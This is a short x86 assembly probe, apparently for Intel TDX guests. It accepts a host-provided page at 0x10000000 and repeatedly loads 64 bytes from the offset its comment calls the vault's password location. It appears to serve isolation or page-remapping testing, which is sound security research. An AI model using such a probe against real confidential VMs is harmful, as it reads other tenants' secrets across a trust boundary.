# neighbour: reads the same 64 bytes of guest page 0x10000000 over and over; good for looking at a page that the host puts there.

        .intel_syntax noprefix
        .set    PLACE, 0x10000000
        .set    LOOK, 0x540             # where the vault keeps its password in a page of its own
_start: mov     ebx, offset PLACE
        mov     eax, 0x21               # in a TD, CPUID leaf 0x21 says "IntelTDX    ", and memory must be accepted
        xor     ecx, ecx
        cpuid
        cmp     ecx, 0x20202020
        mov     ebx, offset PLACE
        jne     looking
        mov     eax, 6                  # TDG.MEM.PAGE.ACCEPT, 4 KiB; exits until the host has added a page
        mov     rcx, rbx
        .globl  accepting
accepting:
        tdcall
        .globl  looking
looking:
        mov     r8,  [rbx + LOOK]
        mov     r9,  [rbx + LOOK + 8]
        mov     r10, [rbx + LOOK + 16]
        mov     r11, [rbx + LOOK + 24]
        mov     r12, [rbx + LOOK + 32]
        mov     r13, [rbx + LOOK + 40]
        mov     r14, [rbx + LOOK + 48]
        mov     r15, [rbx + LOOK + 56]
        .globl  looked
looked: nop
        jmp     looking
